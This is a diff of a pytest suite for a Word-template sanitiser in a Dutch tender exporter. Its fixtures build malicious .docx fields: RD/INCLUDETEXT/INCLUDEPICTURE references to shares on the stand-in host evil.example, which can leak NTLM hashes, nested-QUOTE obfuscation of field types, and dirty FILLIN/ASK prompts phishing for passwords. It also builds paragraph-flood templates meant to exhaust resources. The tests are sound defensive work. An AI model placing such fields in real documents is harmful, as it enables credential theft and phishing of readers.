@@ -230,7 +230,7 @@ def test_a_remote_field_split_over_runs_is_judged_whole(tmp_path, fake_lib, tend
     with zipfile.ZipFile(out) as zf:
         everything = b"".join(zf.read(n) for n in zf.namelist())
     assert b"evil.example" not in everything and b"LUDETEXT" not in everything and b"PICTURE" not in everything
-    assert any("2 velden" in n for n in notes)
+    assert any("2 velden die inhoud van buiten ophalen" in n for n in notes)
     kept = load_template(tmp_path / "split.docx")  # the shown text stays in the template's sample text
     assert "plaatje" in "\n".join(p.text for p in kept.paragraphs)
 
@@ -279,17 +279,43 @@ def test_mail_merge_and_external_vml_pictures_are_dropped(tmp_path, fake_lib, te
 
 def test_a_template_of_many_empty_paragraphs_is_refused_at_once(tmp_path):
     """1.9 million empty paragraphs in 61 KB stayed under the element bound and took 167 s to fill (about 90 us a
-    paragraph): the paragraph count is bound far lower, and the refusal comes before any filling."""
+    paragraph): the paragraph count is bound far lower, and counted while unzipping, before anything is parsed."""
     import time
 
     parts = _base()
-    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 150_000)
+    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 1_900_000)
     path = _write(tmp_path / "leeg.docx", parts)
-    assert path.stat().st_size < 50_000
+    assert path.stat().st_size < 100_000
     start = time.monotonic()
-    with pytest.raises(TemplateError, match=r"150\.00\d alinea's, meer dan 100\.000"):
+    with pytest.raises(TemplateError, match=r"meer dan 25\.000 alinea's"):
         load_template(path)
-    assert time.monotonic() - start < 10
+    assert time.monotonic() - start < 5
+
+
+def _paragraphs_of_two_runs(tmp_path, n: int) -> Path:
+    parts = _base()
+    parts["word/document.xml"] = parts["word/document.xml"].replace(
+        b"<w:body>", b"<w:body>" + b"<w:p><w:r><w:t>a</w:t></w:r><w:r><w:t>b</w:t></w:r></w:p>" * n)
+    return _write(tmp_path / f"alineas-{n}.docx", parts)
+
+
+def test_a_template_just_under_the_paragraph_bound_is_filled_within_seconds(tmp_path, fake_lib, tender):
+    """99,000 paragraphs of two runs (54 KB) stayed under the old bound of 100,000 and took 32 s for one concept; the
+    bound is lower and the per-paragraph work cheaper. Spread over two parts, the count is the sum."""
+    import time
+
+    start = time.monotonic()
+    export_tender(tender, fake_lib, tmp_path / "uit.docx", _paragraphs_of_two_runs(tmp_path, 24_900), today=TODAY,
+                  concept=True)
+    assert time.monotonic() - start < 15  # about 2 s on an idle machine; the old bound let 32 s through
+    with pytest.raises(TemplateError, match="meer dan 25.000 alinea's"):
+        load_template(_paragraphs_of_two_runs(tmp_path, 25_001))
+    parts = _base()
+    header = next(n for n in parts if n.startswith("word/header"))
+    parts[header] = parts[header].replace(b"</w:hdr>", b"<w:p/>" * 13_000 + b"</w:hdr>")
+    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 13_000)
+    with pytest.raises(TemplateError, match="meer dan 25.000 alinea's"):
+        load_template(_write(tmp_path / "twee-delen.docx", parts))
 
 
 @pytest.mark.parametrize("namespaces", [
@@ -309,3 +335,112 @@ def test_a_strict_open_xml_template_is_refused_saying_how_to_save_it(tmp_path, f
     with pytest.raises(TemplateError, match="Strict Open XML.*Word-document \\(.docx\\)"):
         export_tender(tender, fake_lib, tmp_path / "uit.docx", template, today=TODAY)
     assert not (tmp_path / "uit.docx").exists()
+
+
+def _complex(instr: bytes, shown: bytes = b"oud", dirty: bool = False) -> bytes:
+    flag = b' w:dirty="true"' if dirty else b""
+    return (b'<w:r><w:fldChar w:fldCharType="begin"' + flag + b'/></w:r><w:r><w:instrText xml:space="preserve">' +
+            instr + b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>' + shown +
+            b'</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+
+def _export_everything(tmp_path, fake_lib, tender, body: bytes, name: str) -> tuple[bytes, list[str], Path]:
+    notes: list[str] = []
+    template = _write(tmp_path / f"{name}.docx", _with_body(_base(), body))
+    out = export_tender(tender, fake_lib, tmp_path / f"{name}-uit.docx", template, today=TODAY, notes=notes)
+    with zipfile.ZipFile(out) as zf:
+        return b"".join(zf.read(n) for n in zf.namelist()), notes, out
+
+
+@pytest.mark.parametrize("instr", [
+    b' RD "\\\\\\\\evil.example\\\\share\\\\rd.docx" ',  # read by the contents list Word is asked to rebuild
+    b' INCLUDE "\\\\\\\\evil.example\\\\share\\\\include.docx" ',  # INCLUDETEXT's old name
+    b' HYPERLINK "\\\\\\\\evil.example\\\\share\\\\a.docx" ',  # a link to a share, as a relationship would be
+    b' rd "http://evil.example/x.docx" \\f ',
+])
+def test_every_field_that_names_a_file_is_dropped_with_a_line(tmp_path, fake_lib, tender, instr):
+    """RD and INCLUDE passed the sanitiser (F17): opening the leidraad made Word rebuild its contents list, which
+    reads every file an RD field names (an NTLM hash to whoever runs the share)."""
+    everything, notes, out = _export_everything(tmp_path, fake_lib, tender, b"<w:p>" + _complex(instr, b"tekst")
+                                                + b"</w:p>", "rd")
+    assert b"evil.example" not in everything
+    assert any("1 veld dat inhoud van buiten ophaalt" in n for n in notes)
+    kept = load_template(tmp_path / "rd.docx")  # the shown text stays in the template's sample text
+    assert "tekst" in "\n".join(p.text for p in kept.paragraphs)
+
+
+def test_ordinary_web_and_bookmark_hyperlink_fields_stay(tmp_path, fake_lib, tender):
+    body = (b"<w:p>" + _complex(b' HYPERLINK "https://www.zaanstad.nl" ', b"site") + b"</w:p><w:p>" +
+            _complex(b' HYPERLINK \\l "_Toc1" ', b"hoofdstuk") + b"</w:p>")
+    notes: list[str] = []
+    load_template(_write(tmp_path / "links.docx", _with_body(_base(), body)), notes)
+    assert notes == []
+
+
+def _nested(inner: bytes, inner_shown: bytes, rest: bytes, shown: bytes) -> bytes:
+    return (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + _complex(inner, inner_shown) +
+            b'<w:r><w:instrText xml:space="preserve">' + rest + b'</w:instrText></w:r>'
+            b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>' + shown + b'</w:t></w:r>'
+            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def test_a_field_whose_type_a_nested_field_makes_is_dropped(tmp_path, fake_lib, tender):
+    """{ { QUOTE "INCLUDETEXT" } "\\\\host\\x.docx" } and the same with character codes of INCLUDEPICTURE reached
+    the leidraad whole (F18): Word evaluates the nested field first and uses its result as the type."""
+    body = (_nested(b' QUOTE "INCLUDETEXT" ', b"INCLUDETEXT", b' "\\\\\\\\evil.example\\\\share\\\\n.docx" ',
+                    b"tekst") +
+            _nested(b" QUOTE 73 78 67 76 85 68 69 80 73 67 84 85 82 69 ", b"INCLUDEPICTURE",
+                    b' "http://evil.example/pixel.png" \\d ', b"plaatje") +
+            _nested(b' QUOTE "INCL" ', b"INCL", b'UDETEXT "\\\\\\\\evil.example\\\\x.docx" ', b"derde"))
+    everything, notes, _ = _export_everything(tmp_path, fake_lib, tender, body, "genest")
+    assert b"evil.example" not in everything and b"QUOTE 73" not in everything
+    assert any("3 velden waarvan de soort door een ander veld wordt gemaakt" in n for n in notes)
+    kept = load_template(tmp_path / "genest.docx")  # the shown text stays as plain text, fields gone
+    text = "\n".join(p.text for p in kept.paragraphs)
+    assert "tekst" in text and "plaatje" in text and "derde" in text
+    assert not any(el.tag.endswith("fldChar") for el in kept.element.body.iter())
+
+
+def test_ordinary_nested_fields_stay(tmp_path):
+    body = _nested(b" MERGEFIELD naam ", b"naam", b" ", b"x").replace(b"<w:p>", b"<w:p>", 1)
+    body = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF '
+            b'</w:instrText></w:r>' + _complex(b" PAGE ", b"1") + b'<w:r><w:instrText xml:space="preserve"> = 1 '
+            b'"eerste" "later" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>eerste'
+            b'</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    notes: list[str] = []
+    kept = load_template(_write(tmp_path / "if.docx", _with_body(_base(), body)), notes)
+    assert notes == [] and sum(1 for el in kept.element.body.iter() if str(el.tag).endswith("fldChar")) == 6
+
+
+def test_template_dirty_flags_go_and_questions_are_not_asked(tmp_path, fake_lib, tender):
+    """A dirty FILLIN and a dirty simple ASK stayed (F19): Word updates a dirty field on opening, so every bidder
+    was asked for "uw wachtwoord van TenderNed". Only the export's own contents list stays marked."""
+    body = (b"<w:p>" + _complex(b' FILLIN "Voer uw wachtwoord van TenderNed in" ', b"(antwoord)", dirty=True) +
+            b"</w:p><w:p>" + _complex(b" DATE ", b"1-1-2026", dirty=True) + b"</w:p>"
+            b'<w:p><w:fldSimple w:instr=" ASK geheim &quot;Wat is uw pincode?&quot; " w:dirty="true"><w:r><w:t>?'
+            b"</w:t></w:r></w:fldSimple></w:p>")
+    everything, notes, out = _export_everything(tmp_path, fake_lib, tender, body, "vraag")
+    assert b"FILLIN" not in everything and b"ASK geheim" not in everything and b"wachtwoord" not in everything
+    assert any("2 velden die de lezer iets vragen" in n for n in notes)
+    doc = docx.Document(str(out))
+    for el in doc.element.body.iter():
+        if el.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}dirty") is not None:
+            instr = el.getparent().getnext()  # the begin's run, then the run of its instruction
+            assert "TOC" in "".join(instr.itertext())
+
+
+def test_odd_but_possible_field_shapes_are_judged_too(tmp_path):
+    """A whole field in one run, a field that never ends, and fields nested deeper than any house style needs."""
+    one_run = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDETEXT "\\\\\\\\evil.example\\\\a" '
+               b'</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>een</w:t><w:fldChar w:fldCharType="end"/>'
+               b'</w:r></w:p>')
+    endless = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> RD "\\\\\\\\evil.example\\\\b" '
+               b'</w:instrText></w:r></w:p><w:p><w:r><w:t>daarna</w:t></w:r></w:p>')
+    notes: list[str] = []
+    kept = load_template(_write(tmp_path / "vreemd.docx", _with_body(_base(), one_run + endless)), notes)
+    xml = kept.element.xml
+    assert "evil.example" not in xml and any("2 velden die inhoud van buiten ophalen" in n for n in notes)
+    assert "een" in [p.text for p in kept.paragraphs] and "daarna" in [p.text for p in kept.paragraphs]
+    deep = b"<w:p>" + b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 25 + b"</w:p>"
+    with pytest.raises(TemplateError, match="diep.docx heeft velden die meer dan 20 lagen diep"):
+        load_template(_write(tmp_path / "diep.docx", _with_body(_base(), deep)))
